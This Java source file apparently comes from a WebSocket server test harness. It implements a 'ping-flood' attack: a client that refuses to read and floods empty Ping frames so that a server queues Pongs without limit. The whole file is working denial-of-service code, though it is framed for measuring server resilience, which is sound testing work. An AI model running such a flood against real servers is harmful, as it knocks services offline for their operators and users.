package io.sp4j.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/**
 * A ws client that upgrades, shrinks its receive buffer to next to nothing, never reads, and sends
 * masked empty Ping frames as fast as the server takes them for a while. Each Ping asks for a Pong
 * the client will not read: a server that answers every one without looking at its outbound queue
 * keeps them all.
 */
public final class PingFloodAttack implements Attack {
  /** SO_RCVBUF of the flooding client: the kernel's floor (it rounds small values up). */
  private static final int TINY_RECEIVE_BUFFER = 1024;

  /** Pings written per system call. */
  private static final int PINGS_PER_WRITE = 1024;

  private static final int PING_SIZE = 6; // 2-byte header, 4-byte mask, no payload

  private final AttackAddress target;
  private final Duration duration;
  private RawConnection connection;
  private Thread flooder;
  private volatile long bytesSent;
  private volatile long stalledMillis;
  private volatile String stoppedBy = "time";
  private long startNanos;
  private volatile long endNanos;

  /**
   * @param duration how long to flood
   */
  public PingFloodAttack(AttackAddress target, Duration duration) {
    if (target.scheme() != Scheme.WS) {
      throw new IllegalArgumentException("a ping flood needs ws://, not " + target.scheme());
    }
    this.target = target;
    this.duration = duration;
  }

  @Override
  public String name() {
    return "ping-flood";
  }

  @Override
  public void launch() throws IOException {
    connection = RawConnection.connect(target, TINY_RECEIVE_BUFFER, Duration.ofSeconds(5));
    connection.handshake(target);
    connection.nonBlocking();
    startNanos = System.nanoTime();
    flooder = new Thread(this::flood, "ping-flood");
    flooder.setDaemon(true);
    flooder.start();
  }

  private void flood() {
    byte[] batch = new byte[PINGS_PER_WRITE * PING_SIZE];
    for (int i = 0; i < PINGS_PER_WRITE; i++) {
      System.arraycopy(
          SpWire.frameHeader(0x89, 0, ThreadLocalRandom.current().nextInt()),
          0,
          batch,
          i * PING_SIZE,
          PING_SIZE);
    }
    ByteBuffer buffer = ByteBuffer.wrap(batch);
    long deadline = startNanos + duration.toNanos();
    long sent = 0;
    long stalled = 0;
    try {
      while (System.nanoTime() < deadline && !Thread.currentThread().isInterrupted()) {
        if (!buffer.hasRemaining()) {
          buffer.clear();
        }
        int n = connection.writeSome(buffer);
        sent += n;
        bytesSent = sent;
        if (n == 0) {
          // The server stopped reading: the pacing of a peer whose window is shut.
          LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(1));
          stalled++;
          stalledMillis = stalled;
        }
      }
    } catch (IOException e) {
      stoppedBy = "server closed: " + e.getMessage();
    } finally {
      endNanos = System.nanoTime();
    }
  }

  @Override
  public boolean awaitEnd(Duration max) throws InterruptedException {
    flooder.join(max.toMillis());
    return !flooder.isAlive();
  }

  @Override
  public Map<String, Object> results() {
    double seconds = ((endNanos == 0 ? System.nanoTime() : endNanos) - startNanos) / 1e9;
    Map<String, Object> r = new LinkedHashMap<>();
    long pingsSent = bytesSent / PING_SIZE;
    r.put("pingsSent", pingsSent);
    r.put("seconds", Math.round(seconds * 100) / 100.0);
    r.put("pingsPerSecond", Math.round(pingsSent / Math.max(seconds, 1e-3)));
    r.put("millisServerNotReading", stalledMillis);
    r.put("stoppedBy", stoppedBy);
    return r;
  }

  @Override
  public void close() {
    if (flooder != null) {
      flooder.interrupt();
    }
    if (connection != null) {
      connection.close();
    }
  }
}
